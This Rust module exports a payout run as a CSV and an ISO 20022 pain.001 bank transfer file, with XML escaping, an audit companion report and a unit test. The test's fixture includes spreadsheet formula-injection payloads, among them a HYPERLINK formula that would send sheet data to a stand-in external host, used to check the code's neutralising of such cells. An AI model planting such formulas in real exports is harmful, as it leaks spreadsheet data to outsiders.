//! The bank files of an approved payout run: a CSV for the accounting team and an ISO 20022
//! `pain.001.001.03` customer credit transfer initiation for the bank. Each is a pure function of
//! the run as stored, its message id and creation time (fixed at the first export) and the
//! payer: exporting again gives the same bytes.
use super::money::Money;
use super::payout::{Line, LineStatus};
use super::terms::Payer;
use chrono::{DateTime, FixedOffset, NaiveDate};

/// What a bank file is made of.
pub struct Run<'a> {
    pub id: i64,
    pub month: &'a str,
    /// The message id, fixed at the first export.
    pub message_id: &'a str,
    /// The creation time, fixed at the first export, in the program's offset.
    pub created: DateTime<FixedOffset>,
    /// The requested execution date: the run's due date.
    pub due: NaiveDate,
    pub payer: &'a Payer,
    pub lines: &'a [Line],
}

/// The message id of run `id`: unique per run, at most 35 characters.
pub fn message_id(id: i64, month: &str) -> String {
    format!("REFDESK-{month}-RUN{id}")
}

/// The end-to-end id of a line: the run and the partner's code, at most 35 characters.
pub fn end_to_end_id(run: i64, code: &str) -> String {
    let id: String = format!("R{run}-{code}").chars().take(35).collect();
    id
}

/// A text cell that a spreadsheet would take for a formula starts with a quote instead.
pub fn formula_safe(text: &str) -> String {
    match text.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{text}"),
        _ => text.to_string(),
    }
}

fn payable<'a>(run: &'a Run<'a>) -> impl Iterator<Item = &'a Line> {
    run.lines.iter().filter(|l| matches!(l.status, LineStatus::Payable | LineStatus::Paid | LineStatus::Failed))
}

/// The sum of what the file pays.
pub fn control_sum(run: &Run) -> Money {
    payable(run).fold(Money::ZERO, |s, l| s + l.amount)
}

/// The CSV: every line of the run, paid or held back, with its reason; a formula-leading cell is
/// neutralised; the last row is the total.
pub fn csv(run: &Run) -> Result<Vec<u8>, String> {
    let mut out = csv::Writer::from_writer(Vec::new());
    let head = [
        "run",
        "month",
        "message_id",
        "end_to_end_id",
        "partner",
        "name",
        "contract",
        "iban",
        "amount",
        "status",
        "reason",
    ];
    out.write_record(head).map_err(|e| e.to_string())?;
    for l in run.lines {
        let (contract, iban) = l.contract.as_ref().map_or(("", ""), |k| (k.contract_number.as_str(), k.iban.as_str()));
        let row = [
            run.id.to_string(),
            run.month.to_string(),
            run.message_id.to_string(),
            end_to_end_id(run.id, &l.code),
            formula_safe(&l.code),
            formula_safe(&l.name),
            formula_safe(contract),
            formula_safe(iban),
            l.amount.plain(),
            l.status.as_str().to_string(),
            l.reason.map(|r| r.as_str()).unwrap_or_default().to_string(),
        ];
        out.write_record(row).map_err(|e| e.to_string())?;
    }
    let total = ["", "", "", "", "", "total", "", "", &control_sum(run).plain(), "", ""];
    out.write_record(total).map_err(|e| e.to_string())?;
    out.into_inner().map_err(|e| e.to_string())
}

/// XML text with its five special characters escaped and control characters left out.
fn xml(text: &str) -> String {
    let mut s = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => s.push_str("&amp;"),
            '<' => s.push_str("&lt;"),
            '>' => s.push_str("&gt;"),
            '"' => s.push_str("&quot;"),
            '\'' => s.push_str("&apos;"),
            c if c.is_control() => {}
            c => s.push(c),
        }
    }
    s
}

/// At most `n` characters (the schema's Max35Text, Max140Text).
fn max(text: &str, n: usize) -> String {
    xml(&text.chars().take(n).collect::<String>())
}

/// The pain.001.001.03 document, or why there is none (a run that pays nothing has no transfer
/// to ask for, and the schema needs one at least).
pub fn pain001(run: &Run) -> Result<Vec<u8>, String> {
    let lines: Vec<&Line> = payable(run).collect();
    if lines.is_empty() {
        return Err(format!("payout run {} pays nothing: there is no transfer for a bank file", run.id));
    }
    let n = lines.len();
    let sum = control_sum(run).plain();
    let payer = run.payer;
    let mut x = String::new();
    x.push_str("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n");
    x.push_str("<Document xmlns=\"urn:iso:std:iso:20022:tech:xsd:pain.001.001.03\">\n");
    x.push_str("  <CstmrCdtTrfInitn>\n");
    x.push_str("    <GrpHdr>\n");
    x.push_str(&format!("      <MsgId>{}</MsgId>\n", max(run.message_id, 35)));
    x.push_str(&format!("      <CreDtTm>{}</CreDtTm>\n", run.created.format("%Y-%m-%dT%H:%M:%S%:z")));
    x.push_str(&format!("      <NbOfTxs>{n}</NbOfTxs>\n"));
    x.push_str(&format!("      <CtrlSum>{sum}</CtrlSum>\n"));
    x.push_str(&format!("      <InitgPty>\n        <Nm>{}</Nm>\n      </InitgPty>\n", max(&payer.name, 140)));
    x.push_str("    </GrpHdr>\n");
    x.push_str("    <PmtInf>\n");
    x.push_str(&format!("      <PmtInfId>{}</PmtInfId>\n", max(run.message_id, 35)));
    x.push_str("      <PmtMtd>TRF</PmtMtd>\n");
    x.push_str(&format!("      <NbOfTxs>{n}</NbOfTxs>\n"));
    x.push_str(&format!("      <CtrlSum>{sum}</CtrlSum>\n"));
    x.push_str(&format!("      <ReqdExctnDt>{}</ReqdExctnDt>\n", run.due.format("%Y-%m-%d")));
    x.push_str(&format!("      <Dbtr>\n        <Nm>{}</Nm>\n      </Dbtr>\n", max(&payer.name, 140)));
    x.push_str(&format!(
        "      <DbtrAcct>\n        <Id>\n          <IBAN>{}</IBAN>\n        </Id>\n        <Ccy>KZT</Ccy>\n      </DbtrAcct>\n",
        xml(&payer.iban)
    ));
    x.push_str(&format!(
        "      <DbtrAgt>\n        <FinInstnId>\n          <BIC>{}</BIC>\n        </FinInstnId>\n      </DbtrAgt>\n",
        xml(&payer.bic)
    ));
    x.push_str("      <ChrgBr>SLEV</ChrgBr>\n");
    for l in lines {
        let (contract, iban) = l.contract.as_ref().map_or(("", ""), |k| (k.contract_number.as_str(), k.iban.as_str()));
        x.push_str("      <CdtTrfTxInf>\n");
        x.push_str(&format!(
            "        <PmtId>\n          <EndToEndId>{}</EndToEndId>\n        </PmtId>\n",
            max(&end_to_end_id(run.id, &l.code), 35)
        ));
        x.push_str(&format!(
            "        <Amt>\n          <InstdAmt Ccy=\"KZT\">{}</InstdAmt>\n        </Amt>\n",
            l.amount.plain()
        ));
        x.push_str(&format!("        <Cdtr>\n          <Nm>{}</Nm>\n        </Cdtr>\n", max(&l.name, 140)));
        x.push_str(&format!(
            "        <CdtrAcct>\n          <Id>\n            <IBAN>{}</IBAN>\n          </Id>\n        </CdtrAcct>\n",
            xml(iban)
        ));
        let info = format!("Referral bonus {} {}, contract {contract}", run.month, l.code);
        x.push_str(&format!("        <RmtInf>\n          <Ustrd>{}</Ustrd>\n        </RmtInf>\n", max(&info, 140)));
        x.push_str("      </CdtTrfTxInf>\n");
    }
    x.push_str("    </PmtInf>\n");
    x.push_str("  </CstmrCdtTrfInitn>\n");
    x.push_str("</Document>\n");
    Ok(x.into_bytes())
}
/// Who did each step of the run, for its report.
pub struct Hands<'a> {
    pub prepared_by: &'a str,
    pub approved_by: &'a str,
    pub exported_by: &'a str,
}

/// The report written beside a bank file, for the person who uploads it and for the auditor: what
/// the file pays, its digest, who prepared, approved and exported the run, and at its foot the
/// audit chain's head after this export (entry and hash), which anchors the log outside the
/// database: a log rewritten later no longer reaches this hash.
pub fn companion(run: &Run, file: &str, sha256: &str, hands: &Hands, head: (i64, &str)) -> String {
    let payable = payable(run).count();
    let held = run.lines.len() - payable;
    let mut out = String::new();
    let mut line = |k: &str, v: String| out.push_str(&format!("{k:<16}{v}\n"));
    line("Payout run", format!("{} ({})", run.id, run.month));
    line("Bank file", file.to_string());
    line("SHA-256", sha256.to_string());
    line("Message id", run.message_id.to_string());
    line("Created", run.created.format("%Y-%m-%d %H:%M:%S %:z").to_string());
    line("Execution date", run.due.to_string());
    line("Transfers", format!("{payable} (and {held} lines held back, not in the file)"));
    line("Control sum", control_sum(run).plain());
    line("Prepared by", hands.prepared_by.to_string());
    line("Approved by", hands.approved_by.to_string());
    line("Exported by", hands.exported_by.to_string());
    out.push('\n');
    out.push_str(&format!("Audit chain head: entry {}, SHA-256 {}\n", head.0, head.1));
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::payout::{BankDetails, Covered, HoldBack};

    fn line(code: &str, name: &str, contract: &str, status: LineStatus) -> Line {
        Line {
            partner_id: format!("A-{code}"),
            code: code.into(),
            name: name.into(),
            contract: Some(BankDetails { contract_number: contract.into(), iban: "KZ86125KZT5004100100".into() }),
            amount: Money::kzt(25_000),
            available: Money::kzt(25_000),
            clawed: Money::ZERO,
            status,
            reason: (status == LineStatus::HeldBack).then_some(HoldBack::BelowMinimum),
            bonuses: Covered { count: 1, value: Money::kzt(25_000), id_sum: 7 },
            clawbacks: vec![],
        }
    }

    /// A name or a contract number that a spreadsheet would run as a formula (a link that sends
    /// the sheet's data away, a DDE call) is written as text; plain cells are kept as they are.
    #[test]
    fn the_bank_csv_writes_formulas_as_text() {
        let payer = Payer { name: "Atlantys LLP".into(), iban: "KZ86125KZT5004100100".into(), bic: "KCJBKZKX".into() };
        let lines = [
            line("EVIL1", "=HYPERLINK(\"http://x.example/?\"&A1,\"pay\")", "RP-1", LineStatus::Payable),
            line("EVIL2", "@SUM(1)", "+77012345678", LineStatus::Payable),
            line("EVIL3", "-2+3", "\tRP-3", LineStatus::HeldBack),
            line("ASEL25", "Асель Нурланова", "RP-2026-0042", LineStatus::Payable),
        ];
        let created = DateTime::parse_from_rfc3339("2026-11-01T10:00:00+05:00").unwrap_or_else(|e| panic!("{e}"));
        let run = Run {
            id: 3,
            month: "2026-10",
            message_id: "REFDESK-2026-10-RUN3",
            created,
            due: NaiveDate::from_ymd_opt(2026, 11, 10).unwrap_or_default(),
            payer: &payer,
            lines: &lines,
        };
        let bytes = csv(&run).unwrap_or_else(|e| panic!("{e}"));
        let mut reader = ::csv::Reader::from_reader(bytes.as_slice());
        let rows: Vec<Vec<String>> =
            reader.records().map(|r| r.map(|r| r.iter().map(str::to_string).collect()).unwrap_or_default()).collect();
        let cells = |i: usize| (rows[i][5].as_str(), rows[i][6].as_str());
        assert_eq!(cells(0), ("'=HYPERLINK(\"http://x.example/?\"&A1,\"pay\")", "RP-1"));
        assert_eq!(cells(1), ("'@SUM(1)", "'+77012345678"));
        assert_eq!(cells(2), ("'-2+3", "'\tRP-3"));
        assert_eq!(cells(3), ("Асель Нурланова", "RP-2026-0042"));
        // Figures stay figures: the total row's amount is a number, not text.
        assert_eq!(rows[4][8], "75000.00");
        assert_eq!(rows.len(), 5);
    }
}
